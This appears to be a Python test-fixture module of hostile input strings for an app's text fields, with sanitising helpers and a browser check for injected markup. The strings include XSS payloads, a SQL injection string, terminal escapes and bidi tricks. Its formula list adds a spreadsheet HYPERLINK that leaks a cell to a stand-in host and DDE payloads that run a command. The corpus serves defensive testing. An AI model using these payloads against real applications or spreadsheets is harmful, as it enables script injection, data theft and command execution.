"""Hostile texts for every field people type into, and what the app should make of each.

`HOSTILE_TEXTS` is the corpus: (name, text) pairs. `stored(text)` is what a field should keep of a text
("as typed minus control characters", outer spaces trimmed), `fit(text, limit)` cuts a text to what a
widget with `max_chars=limit` accepts, and `INJECTED_JS` finds anything the corpus could have turned into
page structure (elements, links, maths, coloured text) instead of showing it as text.
"""

import re

LIMIT = 10_000  # okrcoach.text.MAX_CHARS: the longest text a multi-line field keeps


def _exactly(unit: str, length: int) -> str:
    """unit repeated to exactly `length` characters, ending in a letter (so trimming never shortens it)."""
    return (unit * (length // len(unit) + 1))[: length - 1] + "Z"


HOSTILE_TEXTS: list[tuple[str, str]] = [
    # Length: exactly at the limit (kept), one over (refused with a message).
    ("10000-chars", _exactly("<b>x</b> **y** [z](http://evil.invalid) ", LIMIT)),
    ("10001-chars", _exactly("Grow repeat sales ", LIMIT + 1)),
    # Control characters: every C0 control, DEL, a CR LF pair; tab and newline are ordinary text.
    ("nul-and-controls", "Grow\x00 repeat\x01\x02\x03\x04\x05\x06\x07\x08 sales\tby\x0b\x0c\x0e\x0f\x10\x11"
                         "\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f\x7f 20%\r\nnext line"),
    ("terminal-escapes", "\x1b[31mred\x1b[0m \x1b]0;pwned\x07title \x1b[2Jcleared\x08\x08 bell\x07"),
    ("c1-controls", "C1\x80 controls\x85 here\x9b31m\x9f end"),
    # Markup: HTML, script, markdown, LaTeX, Streamlit's colour and icon directives.
    ("script-tag", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("html-bold", "<b>bold</b>"),
    ("html-attributes", "<a href=\"javascript:alert(1)\">js</a> <iframe src=\"http://evil.invalid\"></iframe>"
                        " &lt;b&gt; &amp; \" '"),
    ("markdown", "**bold** _it_ [link](http://evil.invalid) # heading"),
    ("markdown-block", "# heading\n\n- item\n> quote\n\n```\nfenced\n```\n---\n| a | b |\n|---|---|\n| 1 | 2 |"),
    ("latex", "$x^2$ and $$\\int_0^1 f$$"),
    ("colour-directive", ":red[colour] :material/warning: :streamlit:"),
    ("bare-url", "http://evil.invalid/x"),
    # Unicode: bidi overrides and isolates (one left unclosed), RTL scripts, emoji, combining marks.
    ("bidi-overrides", "\u202eexe.txt\u202c invoice \u2066isolate\u2069 \u2067rtl\u2069 \u2068first\u2069 open\u202e"),
    ("rtl-scripts", "مرحبا بالعالم — שלום עולם"),
    ("emoji", "👩‍👩‍👧‍👦 🏳️‍🌈 🇬🇧🇯🇵 👍🏽 ❤️‍🔥 🧗🏿‍♀️"),
    ("combining-marks", "Z̷̢̛a̴̢l̷g̵o̶ e\u0301\u0301\u0301 n\u0303 \u0e01\u0e34\u0e4a"),
    ("zero-width", "in\u200bvisible\u200d joiner\ufeff bom\u2060"),
    ("line-separators", "Grow\u2028repeat\u2029sales"),
    ("noncharacters", "\ufffe\uffff\ufdd0 end"),
    ("sql", "'); DROP TABLE objectives;--"),
    ("whitespace-only", "   \t \n  \u00a0 "),
]
CORPUS = dict(HOSTILE_TEXTS)

# Text a spreadsheet would run as a formula if a CSV or workbook gave it as typed (OWASP "CSV injection"),
# and text that only looks like the quoted form. Kept out of HOSTILE_TEXTS: they matter only to exports.
FORMULA_TEXTS: list[tuple[str, str]] = [
    ("hyperlink", '=HYPERLINK("http://evil.invalid/?leak="&A1,"Click for details")'),
    ("dde", "=cmd|' /C calc'!A0"),
    ("plus", "+1+cmd|' /C calc'!A0"),
    ("minus", "-2+3+cmd|' /C calc'!A0"),
    ("at", "@SUM(1+9)*cmd|' /C calc'!A0"),
    ("tab-inside", "x\t=1+1"),
    ("error-code", "#N/A"),
    ("quoted-already", "'=1+1"),
    ("two-quotes", "''@x"),
    ("lone-quote", "'"),
]

_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")  # C0 (but tab and line ends), DEL, C1


def stored(text: str, *, one_line: bool = False) -> str:
    """What a field keeps: the text as typed minus control characters (tab and newline stay in
    multi-line fields; one-line fields turn them into spaces), line ends as \\n, outer spaces trimmed."""
    if one_line:
        text = text.replace("\r\n", " ").replace("\r", " ").replace("\n", " ").replace("\t", " ")
    return _CONTROLS.sub("", text.replace("\r\n", "\n").replace("\r", "\n")).strip()


def fit(text: str, limit: int) -> str:
    """The longest start of text a browser field with max_chars=limit accepts (it counts UTF-16 units)."""
    kept, units = [], 0
    for character in text:
        units += 2 if ord(character) > 0xFFFF else 1
        if units > limit:
            break
        kept.append(character)
    return "".join(kept)


# Anything the corpus could have become if it were rendered as markup rather than shown as text.
# Returns a list of descriptions; empty means nothing was injected.
INJECTED_JS = r"""
() => {
  const found = [];
  const describe = (e) => e.outerHTML.slice(0, 160);
  const text = (e) => (e.textContent || "").trim();
  for (const e of document.querySelectorAll("script")) {
    if (/alert\(/.test(e.textContent || "")) found.push("script: " + describe(e));
  }
  for (const e of document.querySelectorAll("img[src='x'], iframe[src*='evil'], iframe[srcdoc]")) {
    found.push("element: " + describe(e));
  }
  for (const e of document.querySelectorAll("[onerror], [onload], [onclick], [onmouseover]")) {
    found.push("handler: " + describe(e));
  }
  for (const e of document.querySelectorAll("a[href]")) {
    const href = e.getAttribute("href") || "";
    if (/evil\.invalid|^\s*javascript:/i.test(href)) found.push("link: " + describe(e));
  }
  const markers = {b: ["bold"], strong: ["bold", "y"], em: ["it"], i: ["it"],
                   h1: ["heading"], h2: ["heading"], h3: ["heading"], h4: ["heading"], h5: ["heading"],
                   h6: ["heading"], li: ["item"], blockquote: ["quote"], code: ["fenced"]};
  for (const [tag, words] of Object.entries(markers)) {
    for (const e of document.querySelectorAll(tag)) {
      if (words.includes(text(e))) found.push("markup: " + describe(e));
    }
  }
  for (const e of document.querySelectorAll(".katex, .katex-display, math")) found.push("maths: " + describe(e));
  for (const e of document.querySelectorAll("span, div")) {
    if (text(e) === "colour" && e.children.length === 0) found.push("colour: " + describe(e));
  }
  for (const e of document.querySelectorAll("[data-testid='stIconMaterial']")) {
    if (text(e) === "warning") found.push("icon: " + describe(e));
  }
  return found;
}
"""

